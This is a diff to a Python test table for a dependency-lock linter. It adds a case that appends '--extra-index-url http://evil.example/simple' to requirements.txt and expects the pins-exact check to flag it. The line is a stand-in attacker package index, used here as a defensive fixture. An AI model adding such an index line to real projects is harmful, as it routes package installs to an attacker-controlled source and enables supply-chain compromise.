@@ -154,6 +154,13 @@ LOCKED_BREAKAGES: dict[str, Breakage] = {
         "pins-exact",
         r"requirements\.txt:\d+: pins-exact: `rich==[\d.]+` has no --hash",
     ),
+    # A lock that sends installs to another index (here over plain http).
+    "lock-with-an-extra-index": (
+        lambda p: append(p / "requirements.txt", "--extra-index-url http://evil.example/simple\n"),
+        "pins-exact",
+        r"requirements\.txt:\d+: pins-exact: `--extra-index-url` line: the lock names where "
+        r"packages come from; delete the line",
+    ),
     # A lock line with >= instead of ==: pins-exact names the line.
     "lock-line-with-a-range": (
         lambda p: edit(p / "requirements.txt", r"^numpy==", "numpy>="),
